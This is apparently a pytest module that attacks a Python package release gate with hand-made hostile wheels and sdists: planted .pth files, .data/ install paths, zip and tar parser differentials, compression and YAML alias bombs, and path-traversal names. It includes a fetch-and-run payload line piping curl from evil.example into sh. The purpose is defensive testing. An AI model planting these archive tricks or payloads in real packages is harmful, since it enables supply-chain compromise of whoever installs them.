"""The release gate against an attacker: hand-made wheels and sdists, several for each class of attack.

Classes (each test is named after the attack it makes):
1. install locations the gate must see (``.data/`` schemes, ``.pth``, other packages, ``./`` and ``//``, a
   ``.dist-info`` spelt otherwise or doubled by a folder entry);
2. code execution on the gate's machine (``.pth``, ``.data/scripts/python``, a sleeping ``.pth``, a
   ``twine.py`` planted beside the dists);
3. parser differentials (concatenated zips, hidden local entries, bytes around the archive, comments,
   local/central disagreement, Unicode Path extra fields, NUL and empty names; a pax record or code in a
   tar block's padding, a second gzip member, a signed header checksum, pax values an unpacker cannot
   apply, a zip mode executable to uv only, an MS-DOS folder attribute on a file; what uv 0.13 refuses or reads
   otherwise and pip reads: an extra field record twice, a gzip header CRC, tar numbers with leading spaces or no
   end, a link target on a file, an xstar trailer, pax headers empty or setting a record twice; a gzip header's extra
   field, comment or file name, which every unpacker skips; a deflate stream padded with empty blocks, which every
   inflater reads past; a tar owner or group name no unpacker reads; what zipfile (pip)
   refuses and uv reads: a version needed to extract above 6.3; entry_points.txt
   lines its readers read differently; RECORD rows that installers read differently or that uninstalling would follow
   out of the environment, or that installer's record validation refuses; a zip folder entry storing bytes behind a
   declared size of 0; control characters in metadata; a wheel member's mode that only ``unzip`` applies, or made on
   a host whose modes uv does not read; tar device numbers on a file or folder; and, in a wheel judged without its
   sdist, WHEEL, entry_points.txt and RECORD spelt with bytes every reader skips; and, round 16, what a root
   unpacker, `unzip`, Windows' unpackers or a streaming reader apply and the gate read nowhere: owners and group write
   bits, MS-DOS and internal attributes, local extra records unlike the central ones, a central directory in another
   order than the local entries; round 17: zip header bytes the format reserves or leaves undefined; round 18: a
   member mode distlib's Wheel.install and `unzip` apply as written, none at all or closed to others, and an MS-DOS
   time that names no moment, a RECORD size with a leading zero, a ustar time under another pax time);
4. bombs and crashes (bzip2 and lzma members, deflate members larger than declared or huge, YAML alias
   bombs in a package or ``--tracked``, 100,000 members, numbers of thousands of digits);
5. names that alias on other file systems (trailing dots and spaces, NTFS streams, 8.3 names, case, NFC/NFD);
6. an sdist whose build configuration, tar structure, member types tarfile unpacks its own way (a global pax
   header, GNU sparse and contiguous members, an old-style folder entry), member spellings tarfile names alike (a
   duplicate, a folder of a file's name, a name spelt across the ustar prefix) or member modes would change what
   ships (pip's, or those other unpackers apply: a folder its owner cannot list); and, round 17, a pax header's own
   header fields (which an unpacker that knows no pax header writes as a file) and an owner said two ways (a ustar
   header's under a pax header's, which GNU tar run as root applies);
7. wheel metadata that lies (Requires-Dist, console scripts, entry point groups, WHEEL's purelib and tag), and
   dist file names that spell the release otherwise;
8. reports drowned in findings.

Every attack must end in exit 1 with a finding naming the dist and the member, or exit 2 for input that
is no archive at all; never a traceback, never anything run from the candidate. Each attack is answered
within 30 s and 1 GiB: in this process under a memory trace (:func:`judge`), or, for the bombs, as
``python -m gate`` in a subprocess whose address space is capped at 1 GiB (:func:`gate_cli`).
"""

from __future__ import annotations

import base64
import calendar
import gzip
import io
import os
import re
import resource
import shutil
import stat
import struct
import subprocess
import sys
import tarfile
import time
import tracemalloc
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import REPO, project_dists_copy
from gate_fixtures import (
    Built,
    RawMember,
    RawTarMember,
    raw_tar,
    raw_zip,
    read_wheel_member,
    record_text,
    same_size_change,
    sdist_members,
    wheel_members,
    with_true_record,
    write_sdist,
)
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gate.archive import SdistArchive
from gate.checker import DEFAULT_TRACKED, Options, check
from gate.checks import SHOWN_PER_CHECK, Finding, GateError, Limits
from gate.completeness import load_reference
from gate.report import Report
from neurobrix import tables

pytestmark = pytest.mark.slow

REFERENCE = load_reference(DEFAULT_TRACKED)
TABLE = REFERENCE.files[-1]  # any tracked table will do
TRACKED_IN_WHEEL = f"{tables.WHEEL_DIR}/{tables.TRACKED_NAME}"
GiB = 1 << 30
ANSWER_S = 30


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory, project_dists: Path) -> Built:
    """This module's own copy of the session's build of this checkout (conftest.project_dists)."""
    files = project_dists_copy(project_dists, tmp_path_factory.mktemp("hostile-build") / "dist")
    return Built(
        wheel=next(p for p in files if p.suffix == ".whl"), sdist=next(p for p in files if p.name.endswith(".tar.gz"))
    )


def judge(*dists: Path, smoke: bool = False) -> Report:
    """The gate's own checks (twine and check-wheel-contents left out: the gate must not need them), answered
    within 30 s and 1 GiB (what the gate allocates in this process, traced)."""
    tracemalloc.start()
    start = time.monotonic()
    try:
        return check(list(dists), Options(REFERENCE, smoke=smoke, tools=False))
    finally:
        elapsed = time.monotonic() - start
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert elapsed < ANSWER_S, f"answered in {elapsed:.1f} s"
        assert peak < GiB, f"allocated {peak / GiB:.2f} GiB"


def refused_with(report: Report, code: str, path: str | None, dist: str | None = None) -> Finding:
    assert not report.passed and report.exit_code == 1
    matching = [f for f in report.findings if f.code == code and f.path == path and (dist is None or f.dist == dist)]
    assert matching, f"no {code} about {path}; findings: {[(f.code, f.path, f.message) for f in report.findings]}"
    return matching[0]


def codes(report: Report) -> set[str]:
    return {f.code for f in report.findings}


def capped_address_space() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (GiB, GiB))


def gate_cli(*args: str) -> subprocess.CompletedProcess[str]:
    """``python -m gate`` in a subprocess capped at 1 GiB of address space and 30 s; never a traceback."""
    result = subprocess.run(
        [sys.executable, "-m", "gate", *args[:1], "--allow-dirty", *args[1:]],  # judges dists, not the checkout
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=ANSWER_S,
        preexec_fn=capped_address_space,
        stdin=subprocess.DEVNULL,
    )
    assert "Traceback" not in result.stderr + result.stdout, result.stderr
    assert "internal error" not in result.stderr, result.stderr
    assert result.returncode in (1, 2), result.stdout + result.stderr
    return result


def write_wheel(built: Built, folder: Path, members: list[RawMember], name: str | None = None, **around: bytes) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / (name or built.wheel.name)
    path.write_bytes(raw_zip(members, **around))
    return path


def member(members: list[RawMember], name: str) -> RawMember:
    return next(m for m in members if m.name == name.encode())


def altered_table(built: Built) -> bytes:
    with zipfile.ZipFile(built.wheel) as z:
        return same_size_change(z.read(TABLE.wheel_path))


# 1. Install locations: everything an installer would write is held against the allow-list


LOCATIONS = {  # attack -> the member planted ({v}: the version), holding altered table bytes
    ".data/purelib tables": "neurobrix-{v}.data/purelib/neurobrix/_tables/{table}",
    ".data/platlib tables": "neurobrix-{v}.data/platlib/neurobrix/_tables/{table}",
    ".data/data into site-packages": "neurobrix-{v}.data/data/lib/python3.11/site-packages/neurobrix/_tables/{table}",
    ".data/scripts": "neurobrix-{v}.data/scripts/neurobrix-admin",
    ".data/headers": "neurobrix-{v}.data/headers/neurobrix.h",
    "another project's .data (pip reads any)": "other-1.0.data/purelib/neurobrix/_tables/{table}",
    # installer takes a member for the .data folder's by a character-wise common prefix: .datafoo/purelib/ is purelib
    "a folder named like the .data one and longer": "neurobrix-{v}.datafoo/purelib/neurobrix/_tables/{table}",
    "another top-level package": "evil/__init__.py",
    "sitecustomize": "sitecustomize.py",
    "an untracked module in the package": "neurobrix/ops/planted.py",
    "planted bytecode": "neurobrix/__pycache__/cli.cpython-311.pyc",
    "a second .dist-info": "other-1.0.dist-info/METADATA",
    "an installer's file in the .dist-info": "neurobrix-{v}.dist-info/INSTALLER",
}


@pytest.mark.parametrize("attack", list(LOCATIONS))
def test_install_location_outside_the_allow_list_is_refused(built: Built, tmp_path: Path, attack: str) -> None:
    planted = LOCATIONS[attack].format(v=built.version, table=TABLE.path)
    members = with_true_record([*wheel_members(built.wheel), RawMember(planted.encode(), altered_table(built))])
    report = judge(write_wheel(built, tmp_path, members))
    finding = refused_with(report, "G107", planted, built.wheel.name)
    assert "not a file of this project" in finding.message
    if attack == "another project's .data (pip reads any)":  # installer: purelib/other-1.0.data/...; pip: over ours
        assert f"pip writes it to purelib/{TABLE.wheel_path}" in finding.message


DIST_INFO_SPELLINGS = {  # attack -> (the wheel's members -> those members, the member named by the G107)
    # pip and installer take any .dist-info whose name canonicalises to the project's, and install it as spelt: an
    # installed neurobrix whose metadata folder no build writes (importlib.metadata reads it; uninstall finds it)
    "the .dist-info in another case": (
        lambda b, ms: [
            RawMember(m.name.replace(b.dist_info.encode(), b"NeuroBrix-0.1.0.dist-info"), m.data) for m in ms
        ],
        "NeuroBrix-0.1.0.dist-info/METADATA",
    ),
    "the .dist-info with an unnormalised version": (
        lambda b, ms: [
            RawMember(m.name.replace(b.dist_info.encode(), b"neurobrix-0.1.0.0.dist-info"), m.data) for m in ms
        ],
        "neurobrix-0.1.0.0.dist-info/METADATA",
    ),
    # no file in it, so a check that counts .dist-info folders by their files sees one; pip counts folder entries too
    "a second .dist-info that is only a folder entry": (
        lambda b, ms: [
            *ms,
            RawMember(b"other-1.0.dist-info/", b"", method=zipfile.ZIP_STORED, mode=stat.S_IFDIR | 0o755),
        ],
        "other-1.0.dist-info/",
    ),
}


@pytest.mark.parametrize("attack", list(DIST_INFO_SPELLINGS))
def test_a_dist_info_spelt_otherwise_or_doubled_is_refused(built: Built, tmp_path: Path, attack: str) -> None:
    edit, named = DIST_INFO_SPELLINGS[attack]
    members = with_true_record(edit(built, wheel_members(built.wheel)))
    report = judge(write_wheel(built, tmp_path, members))
    refused_with(report, "G107", named, built.wheel.name)


def test_data_purelib_tables_with_their_own_tracked_list_are_refused(built: Built, tmp_path: Path) -> None:
    """The attack that passed: altered tables and a matching TRACKED.yaml, both through .data/purelib/."""
    data = f"neurobrix-{built.version}.data/purelib/"
    altered = altered_table(built)
    forged = tables.render_tracked(
        [
            f
            if f != TABLE
            else type(f)(f.path, f.wheel_path, __import__("hashlib").sha256(altered).hexdigest(), len(altered))
            for f in REFERENCE.files
        ]
    ).encode()
    members = with_true_record(
        [
            *wheel_members(built.wheel),
            RawMember(f"{data}{TABLE.wheel_path}".encode(), altered),
            RawMember(f"{data}{TRACKED_IN_WHEEL}".encode(), forged),
        ]
    )
    report = judge(write_wheel(built, tmp_path, members), smoke=True)
    message = refused_with(report, "G107", f"{data}{TABLE.wheel_path}").message
    assert f"purelib/{TABLE.wheel_path}" in message  # where the installer would have put it
    refused_with(report, "G107", f"{data}{TRACKED_IN_WHEEL}")
    assert [s.status for s in report.smoke] == ["skipped"]


@pytest.mark.parametrize("tracked", ["README.md", ".github/workflows/release.yml", "tests/conftest.py"])
def test_a_tracked_file_under_the_dist_infos_licenses_is_refused(built: Built, tmp_path: Path, tracked: str) -> None:
    """A file git tracks, byte for byte, under ``.dist-info/licenses/``: no build of this project puts it there (the
    metadata names no License-File), yet every tracked file was allowed there, so a wheel checked alone (no sdist to
    rebuild it from) passed with it and installed it."""
    planted = f"{built.dist_info}/licenses/{tracked}"
    planted_member = RawMember(planted.encode(), (REPO / tracked).read_bytes())
    members = with_true_record([*wheel_members(built.wheel), planted_member])
    report = judge(write_wheel(built, tmp_path, members))
    assert codes(report) == {"G107"}
    assert "not a file of this project" in refused_with(report, "G107", planted, built.wheel.name).message


@pytest.mark.parametrize("spelling", ["neurobrix/./_tables/", "neurobrix//_tables/", "./neurobrix/_tables/"])
def test_dot_and_double_slash_spellings_of_the_tables_are_refused(built: Built, tmp_path: Path, spelling: str) -> None:
    planted = f"{spelling}{TABLE.path}"
    members = with_true_record([*wheel_members(built.wheel), RawMember(planted.encode(), altered_table(built))])
    report = judge(write_wheel(built, tmp_path, members))
    assert "installers collapse" in refused_with(report, "G310", planted).message
    refused_with(report, "G107", planted)


# 2. Nothing from a candidate runs on the gate's machine


def marker_code(marker: Path) -> bytes:
    return f"import pathlib; pathlib.Path({str(marker)!r}).write_text('ran')\n".encode()


def test_pth_file_that_runs_code_is_refused_and_never_run(built: Built, tmp_path: Path) -> None:
    marker = tmp_path / "pth-ran"
    members = with_true_record([*wheel_members(built.wheel), RawMember(b"zzz_gate.pth", marker_code(marker))])
    wheel = write_wheel(built, tmp_path / "dist", members)
    report = judge(wheel, smoke=True)
    assert ".pth file runs code" in refused_with(report, "G107", "zzz_gate.pth").message
    assert [s.status for s in report.smoke] == ["skipped"]
    result = gate_cli("check", str(wheel))  # the release command: the smoke is on
    assert result.returncode == 1 and "G107" in result.stdout
    assert not marker.exists()


def test_data_scripts_python_never_replaces_the_interpreter(built: Built, tmp_path: Path) -> None:
    marker = tmp_path / "python-ran"
    script = b"#!/bin/sh\n" + f"echo ran > {marker}\n".encode() + b"echo '{\"ok\": true}'\n"
    planted = f"neurobrix-{built.version}.data/scripts/python"
    members = with_true_record([*wheel_members(built.wheel), RawMember(planted.encode(), script, mode=0o100755)])
    wheel = write_wheel(built, tmp_path / "dist", members)
    result = gate_cli("check", str(wheel))
    assert result.returncode == 1 and f"{planted}: not a file of this project" in result.stdout
    assert "scripts folder on PATH" in result.stdout
    assert not marker.exists()


def test_sleeping_pth_does_not_hold_the_gate(built: Built, tmp_path: Path) -> None:
    sleeper = RawMember(b"slow.pth", b"import time; time.sleep(3600)\n")
    members = with_true_record([*wheel_members(built.wheel), sleeper])
    wheel = write_wheel(built, tmp_path / "dist", members)
    start = time.monotonic()
    result = gate_cli("check", str(wheel))
    assert result.returncode == 1 and time.monotonic() - start < ANSWER_S


def test_the_smoke_runs_only_the_gates_own_interpreter_isolated(built: Built, monkeypatch: pytest.MonkeyPatch) -> None:
    """On a wheel that passes: every process the smoke starts is this interpreter with -I, never one from the wheel."""
    import gate.smoke

    started: list[list[str]] = []
    run = gate.smoke._run

    def spy(command: list[str], *args: object) -> object:
        started.append([str(c) for c in command])
        return run(command, *args)  # type: ignore[arg-type]

    monkeypatch.setattr(gate.smoke, "_run", spy)
    report = judge(built.wheel, smoke=True)
    assert report.passed and [s.status for s in report.smoke] == ["passed"]
    assert [c[:3] for c in started] == [[sys.executable, "-I", "-m"], [sys.executable, "-I", "-B"]]
    assert started[0][3:5] == ["pip", "install"] and "--no-compile" in started[0]


# 3. Zip parser differentials: only an archive every tool reads alike is read at all


def table_as(built: Built, **fields: object) -> bytes:
    """The wheel written again with the tracked table's member given ``fields`` (a RawMember's)."""
    table = TABLE.wheel_path.encode()
    return raw_zip(
        [
            RawMember(m.name, m.data, **fields) if m.name == table else m  # type: ignore[arg-type]
            for m in wheel_members(built.wheel)
        ]
    )


def evil_zip(built: Built) -> bytes:
    table = TABLE.wheel_path.encode()
    return raw_zip(
        with_true_record(
            [RawMember(m.name, altered_table(built)) if m.name == table else m for m in wheel_members(built.wheel)]
        )
    )


def hidden_entry(built: Built) -> bytes:
    members = wheel_members(built.wheel)
    return raw_zip(
        [*members[:1], RawMember(TABLE.wheel_path.encode(), altered_table(built), listed=False), *members[1:]]
    )


def doubled_entry(built: Built) -> bytes:
    """A second central entry pointing at the first member's local header: two entries, one set of bytes."""
    plain = built.wheel.read_bytes()
    first = plain.find(b"PK\x01\x02")
    entry = plain[first : first + 46 + struct.unpack_from("<H", plain, first + 28)[0]]
    eocd = len(plain) - 22
    count, size, offset = struct.unpack_from("<HLL", plain, eocd + 10)
    return (
        plain[:eocd]
        + entry
        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count + 1, count + 1, size + len(entry), offset, 0)
    )


UNICODE_PATH = (
    struct.pack("<HHB", 0x7075, 5 + len(b"neurobrix/evil.py"), 1)
    + struct.pack("<L", zlib.crc32(TABLE.wheel_path.encode()))
    + b"neurobrix/evil.py"
)
EXTENDED_TIME = struct.pack("<HHBL", 0x5455, 5, 1, 0)  # an Info-ZIP extended timestamp: allowed once per header


def needing(built: Built, version: int) -> bytes:
    """The wheel with the table's "version needed to extract" set to ``version`` in its central and local headers."""
    data = bytearray(built.wheel.read_bytes())
    table = TABLE.wheel_path.encode()
    at = struct.unpack_from("<L", data, len(data) - 6)[0]  # the central directory's offset, from the end record
    while data[at : at + 4] == b"PK\x01\x02":
        name_len, extra_len, comment_len = struct.unpack_from("<3H", data, at + 28)
        if data[at + 46 : at + 46 + name_len] == table:
            struct.pack_into("<H", data, at + 6, version)
            struct.pack_into("<H", data, struct.unpack_from("<L", data, at + 42)[0] + 4, version)
        at += 46 + name_len + extra_len + comment_len
    return bytes(data)


FIRST_MEMBER = "neurobrix/__init__.py"  # hatchling writes the package first
ZIP_ATTACKS = {  # name -> (the archive, the code expected, the member named; None: the archive as a whole)
    "two zips concatenated": (lambda b: b.wheel.read_bytes() + evil_zip(b), "G311", None),
    "evil zip before the archive": (
        lambda b: raw_zip(wheel_members(b.wheel), before=evil_zip(b)),
        "G311",
        FIRST_MEMBER,
    ),
    "bytes after the archive": (lambda b: b.wheel.read_bytes() + b"trailing bytes", "G311", None),
    "a zip comment": (lambda b: raw_zip(wheel_members(b.wheel), comment=b"hello"), "G311", None),
    "a local entry the directory does not list": (hidden_entry, "G311", TABLE.wheel_path),
    "two entries sharing one local entry": (doubled_entry, "G311", FIRST_MEMBER),
    "a local name differing from the central one": (
        lambda b: table_as(b, local_name=b"neurobrix/evil.py"),
        "G312",
        TABLE.wheel_path,
    ),
    "a local size differing from the central one": (lambda b: table_as(b, local_size=1), "G312", TABLE.wheel_path),
    "an Info-ZIP Unicode Path extra field": (lambda b: table_as(b, extra=UNICODE_PATH), "G313", TABLE.wheel_path),
    "a data descriptor flag": (lambda b: table_as(b, flags=0x8), "G313", TABLE.wheel_path),
    # uv (0.13) refuses a wheel with an extra field record twice in one header; zipfile, pip and installer read on
    "an extra field record twice": (lambda b: table_as(b, extra=EXTENDED_TIME * 2), "G313", TABLE.wheel_path),
    # round 12: bytes no installer reads, carried into the upload in a record of an unknown id, or past the end of
    # a known record's format
    "an extra field record of an unknown id": (
        lambda b: table_as(b, extra=struct.pack("<HH", 0xCAFE, 1024) + b"x" * 1024),
        "G313",
        TABLE.wheel_path,
    ),
    "an extended timestamp longer than its format": (
        lambda b: table_as(b, extra=struct.pack("<HHB", 0x5455, 1025, 1) + b"\0" * 1024),
        "G313",
        TABLE.wheel_path,
    ),
    # the zip crate parses these two records and refuses the whole archive where they are laid out otherwise than
    # their formats say; zipfile, pip and installer skip them (the gate took any bytes within the record's size)
    "an NTFS times record with another tag": (
        lambda b: table_as(b, extra=struct.pack("<HHLHH", 0x000A, 32, 0, 2, 24) + bytes(24)),
        "G313",
        TABLE.wheel_path,
    ),
    "an extended timestamp whose flags disagree with its size": (
        lambda b: table_as(b, extra=struct.pack("<HHB", 0x5455, 9, 1) + bytes(8)),
        "G313",
        TABLE.wheel_path,
    ),
    "an entry comment": (lambda b: table_as(b, comment=b"hidden"), "G311", TABLE.wheel_path),
    "a stored member whose sizes differ": (
        lambda b: table_as(b, method=zipfile.ZIP_STORED, size=1),
        "G312",
        TABLE.wheel_path,
    ),
}


@pytest.mark.parametrize("attack", list(ZIP_ATTACKS))
def test_zip_that_tools_read_differently_is_refused(built: Built, tmp_path: Path, attack: str) -> None:
    make, code, path = ZIP_ATTACKS[attack]
    data = make(built)
    wheel = tmp_path / built.wheel.name
    wheel.write_bytes(data)
    report = judge(wheel)
    refused_with(report, code, path, built.wheel.name)  # path None: the archive as a whole
    if code == "G311":  # read more than one way: nothing inside is judged
        assert {f.code for f in report.findings} <= {"G311", "G312", "G313"}


def test_a_version_needed_that_zipfile_cannot_open_is_refused_by_the_gate_itself(built: Built, tmp_path: Path) -> None:
    """Version needed to extract 12.6 on one member: Python's zipfile (pip, installer, twine, check-wheel-contents)
    refuses the whole wheel, uv ignored the field and installed it (uv 0.13.9 refuses it too: gate round 58). Only
    twine, check-wheel-contents and the smoke refused it; the gate's own reader passed it."""
    wheel = tmp_path / built.wheel.name
    wheel.write_bytes(needing(built, 126))
    with pytest.raises(NotImplementedError, match="zip file version 12.6"):
        zipfile.ZipFile(wheel)
    report = judge(wheel)
    assert "version needed to extract 12.6" in refused_with(report, "G313", TABLE.wheel_path).message
    wheel.write_bytes(needing(built, 0x0314))  # the high byte, which zipfile reads as reserved: 2.0 to every reader
    assert judge(wheel).passed


PAYLOAD = b"import os; os.system('curl -s https://evil.example | sh')\n"
FOLDER_PAYLOADS = {  # twelfth round: a folder entry with a declared size of 0 whose stored bytes were never read
    "a deflate stream of code behind a declared size of 0": {"compressed": zlib.compress(PAYLOAD, 9)[2:-4], "crc": 0},
    "a stored folder with the CRC of other bytes": {"method": zipfile.ZIP_STORED, "crc": zlib.crc32(PAYLOAD)},
}


@pytest.mark.parametrize("attack", list(FOLDER_PAYLOADS))
def test_a_folder_entry_must_store_an_empty_member(built: Built, tmp_path: Path, attack: str) -> None:
    """A folder is never read by pip or installer (both install the wheel as without it), so the gate never read one
    either: a folder entry declaring 0 bytes passed with a deflate stream of any content behind it, or with the CRC of
    other bytes, which `unzip -t` reads (a bad CRC: a damaged wheel) and which carry a payload into the upload."""
    folder = RawMember(b"neurobrix/", b"", size=0, mode=stat.S_IFDIR | 0o755, **FOLDER_PAYLOADS[attack])  # type: ignore[arg-type]
    wheel = write_wheel(built, tmp_path, [folder, *wheel_members(built.wheel)])
    report = judge(wheel)
    assert "not an empty member" in refused_with(report, "G304", "neurobrix/", built.wheel.name).message


def test_executable_mode_behind_a_dos_host_byte_is_seen(built: Built, tmp_path: Path) -> None:
    """pip reads the Unix mode whatever host "version made by" names; so does the gate."""
    members = wheel_members(built.wheel)
    member(members, "neurobrix/cli.py").mode = 0o100755
    data = bytearray(raw_zip(members))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 5] = 0  # host: MS-DOS
        at = data.find(b"PK\x01\x02", at + 4)
    wheel = tmp_path / built.wheel.name
    wheel.write_bytes(bytes(data))
    report = judge(wheel)
    assert "executable" in refused_with(report, "G109", "neurobrix/cli.py").message


def test_dos_folder_attribute_on_a_file_is_refused(built: Built, tmp_path: Path) -> None:
    """No Unix mode, an MS-DOS host and the MS-DOS folder attribute (0x10): pip and installer install a plain
    file, uv up to 0.11.14 (the zip crate, for a wheel on disk) reads the mode as 0o40775 and installs it executable."""
    members = wheel_members(built.wheel)
    member(members, "neurobrix/cli.py").mode = 0
    data = bytearray(raw_zip(members))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        name = bytes(data[at + 46 : at + 46 + struct.unpack_from("<H", data, at + 28)[0]])
        if name == b"neurobrix/cli.py":
            data[at + 5] = 0  # host: MS-DOS
            struct.pack_into("<L", data, at + 38, 0x10)  # external attributes: the folder bit, no Unix mode
        at = data.find(b"PK\x01\x02", at + 4)
    wheel = tmp_path / built.wheel.name
    wheel.write_bytes(bytes(data))
    report = judge(wheel)
    assert "MS-DOS folder attribute" in refused_with(report, "G304", "neurobrix/cli.py").message


@pytest.mark.parametrize(
    ("raw_name", "why"),
    [
        (b"neurobrix/_tables/nvidia-h200/linear.yaml\x00.txt", "NUL byte"),
        (b"", "empty name"),
        ("neurobrix/caf\u00e9.py".encode("utf-8"), "lacks the UTF-8 flag"),
        (b"neurobrix/\xff.py", "not valid UTF-8"),
        (b"neurobrix/\x1b[2J.py", "control character"),
        (b"neurobrix\\_tables\\evil.yaml", "backslash"),
        (b"/etc/neurobrix.yaml", "absolute"),
        (b"neurobrix/../../escape.py", "'..'"),
    ],
    ids=[
        "NUL",
        "empty",
        "non-ASCII without UTF-8 flag",
        "invalid UTF-8",
        "escape sequence",
        "backslash",
        "absolute",
        "dot-dot",
    ],
)
def test_member_name_judged_from_its_raw_bytes(built: Built, tmp_path: Path, raw_name: bytes, why: str) -> None:
    flags = 0x800 if raw_name == b"neurobrix/\xff.py" else 0
    members = [*wheel_members(built.wheel), RawMember(raw_name, b"x = 1\n", flags=flags)]
    report = judge(write_wheel(built, tmp_path, members))
    assert [f for f in report.findings if f.code in ("G301", "G302", "G303") and why in f.message], report.findings
    assert all(f.dist == built.wheel.name for f in report.findings)


# 4. Bombs and crashes: bounded in time and memory, through the command line under a 1 GiB cap


def zeros_deflated(size: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(1 << 20)
    out = [packer.compress(chunk) for _ in range(size >> 20)]
    return b"".join(out) + packer.flush()


def bomb_wheel(built: Built, folder: Path, attack: str) -> Path:
    members = wheel_members(built.wheel)
    table = member(members, TABLE.wheel_path)
    if attack in ("bzip2", "lzma"):
        table.method = zipfile.ZIP_BZIP2 if attack == "bzip2" else zipfile.ZIP_LZMA
    elif attack == "true but huge":
        table.data, table.compressed, table.size = b"", zeros_deflated(200 << 20), 200 << 20
    elif attack == "larger than declared":  # declares the table's true size and CRC; inflates to 200 MiB
        table.compressed = zeros_deflated(200 << 20)
    elif attack == "60,000 members":
        members = [RawMember(f"junk/{i}".encode(), b"", method=zipfile.ZIP_STORED) for i in range(60_000)]
    elif attack == "100,000 members":  # more than 65,535: zipfile writes the zip64 records this needs
        folder.mkdir(parents=True, exist_ok=True)
        with zipfile.ZipFile(folder / built.wheel.name, "w") as out:
            for i in range(100_000):
                out.writestr(f"junk/{i}", b"")
        return folder / built.wheel.name
    return write_wheel(built, folder, members)


@pytest.mark.parametrize(
    ("attack", "code"),
    [
        ("bzip2", "G313"),
        ("lzma", "G313"),
        ("true but huge", "G306"),
        ("larger than declared", "G309"),
        ("60,000 members", "G314"),
        ("100,000 members", "G313"),
    ],
)
def test_compression_bomb_is_refused_within_bounds(built: Built, tmp_path: Path, attack: str, code: str) -> None:
    wheel = bomb_wheel(built, tmp_path / "dist", attack)
    result = gate_cli("check", "--no-smoke", str(wheel))
    assert result.returncode == 1 and f"  {code} " in result.stdout, result.stdout
    assert built.wheel.name in result.stdout


ALIAS_BOMB = (
    b"format: 1\na: &a [x, x, x, x, x, x, x, x, x]\n"
    + b"".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
        f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n".encode()
        for i in range(12)
    )
    + b"files: []\n"
)


def test_yaml_alias_bomb_in_the_wheels_tracked_list_is_refused(built: Built, tmp_path: Path) -> None:
    members = [
        RawMember(m.name, ALIAS_BOMB) if m.name == TRACKED_IN_WHEEL.encode() else m for m in wheel_members(built.wheel)
    ]
    report = judge(write_wheel(built, tmp_path, with_true_record(members)))
    assert "anchor or alias" in refused_with(report, "G106", TRACKED_IN_WHEEL).message


def test_yaml_alias_bomb_in_the_sdists_tracked_list_is_refused(built: Built, tmp_path: Path) -> None:
    name = f"{built.root}/tables/{tables.TRACKED_NAME}"
    tar = raw_tar(RawTarMember(m.name, ALIAS_BOMB) if m.name == name else m for m in sdist_members(built.sdist))
    report = judge(write_sdist(tmp_path / built.sdist.name, tar))
    assert "anchor or alias" in refused_with(report, "G506", name).message


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (ALIAS_BOMB, "anchor or alias"),
        (b"files:" + b" [" * 5000 + b"]" * 5000 + b"\n", "nested more than"),
        (b"#" * (5 << 20), "the limit is"),
        (b"format: 1\nfiles: {x: 1}\n", "must be array"),
        (b"\xff\xfe not text", "not UTF-8"),
    ],
    ids=["alias bomb", "deep nesting", "too large", "wrong schema", "not UTF-8"],
)
def test_unusable_tracked_option_is_exit_2_with_one_message(
    built: Built, tmp_path: Path, content: bytes, why: str
) -> None:
    tracked = tmp_path / "TRACKED.yaml"
    tracked.write_bytes(content)
    result = gate_cli("check", "--no-smoke", "--tracked", str(tracked), str(built.wheel))
    assert result.returncode == 2 and why in result.stderr
    assert result.stderr.count("\n") == 1 and result.stdout == ""


def test_tracked_option_naming_a_device_is_exit_2(built: Built) -> None:
    result = gate_cli("check", "--no-smoke", "--tracked", "/dev/zero", str(built.wheel))
    assert result.returncode == 2 and "not a regular file" in result.stderr


def test_sdist_bombs_are_abandoned_while_streaming(built: Built, tmp_path: Path) -> None:
    huge = raw_tar([RawTarMember(f"{built.root}/zeros.bin", bytes(8 << 20))])
    result = gate_cli("check", "--no-smoke", str(write_sdist(tmp_path / built.sdist.name, huge)))
    assert result.returncode == 1 and "G307" in result.stdout and "abandoned" in result.stdout
    header = bytearray(raw_tar([RawTarMember(f"{built.root}/PKG-INFO", b"x")]))
    header[124:136] = b"77777777777\0"  # a size of 8 GiB in the header, for one byte of data
    header[148:156] = b"        "
    header[148:156] = f"{sum(header[:512]):06o}\0 ".encode()
    (tmp_path / "sized").mkdir()
    result = gate_cli("check", "--no-smoke", str(write_sdist(tmp_path / "sized" / built.sdist.name, bytes(header))))
    assert result.returncode == 1 and "G312" in result.stdout and "past the end of the stream" in result.stdout


@pytest.mark.parametrize(
    "content",
    [b"", b"PK\x05\x06", b"not a zip at all" * 100, b"\x1f\x8b\x08garbage"],
    ids=["empty", "a bare end record", "text", "a gzip header"],
)
def test_file_that_is_no_archive_is_exit_2(built: Built, tmp_path: Path, content: bytes) -> None:
    wheel = tmp_path / built.wheel.name
    wheel.write_bytes(content)
    result = gate_cli("check", "--no-smoke", str(wheel))
    assert result.returncode == 2 and result.stderr.startswith("gate: error:") and result.stdout == ""


# 5. Names that alias another path on some file system


NFD = unicodedata.normalize("NFD", "caf\u00e9")


@pytest.mark.parametrize(
    "planted",
    [
        f"neurobrix/_tables./{TABLE.path}",
        f"neurobrix/_tables /{TABLE.path}",
        f"neurobrix/_tables::$INDEX_ALLOCATION/{TABLE.path}",
        f"neurobrix/_TABLE~1/{TABLE.path}",
        f"neurobrix/_tab\u200bles/{TABLE.path}",
        f"neurobrix/{NFD}.py",
        "neurobrix/CON.py",
        # round 17: the device names Windows reserves with a superscript digit passed the device-name check
        "neurobrix/COM\u00b9.py",
        "neurobrix/lpt\u00b2/x.py",
        "neurobrix/LPT\u00b3 .tables.yaml",
    ],
    ids=[
        "trailing dot",
